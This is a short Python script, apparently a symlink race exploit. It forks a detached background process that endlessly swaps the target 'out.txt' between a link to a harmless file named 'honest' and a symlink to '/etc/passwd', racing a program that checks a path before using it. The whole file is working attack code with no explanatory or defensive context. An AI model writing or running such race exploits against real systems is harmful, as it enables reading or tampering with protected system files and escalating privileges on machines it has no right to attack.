import os

open("honest", "w").write("honest")
if os.fork() == 0:
    os.setsid()
    while True:
        for source in (lambda: os.link("honest", "new"), lambda: os.symlink("/etc/passwd", "new")):
            try:
                source()
                os.rename("new", "out.txt")
            except OSError:
                pass
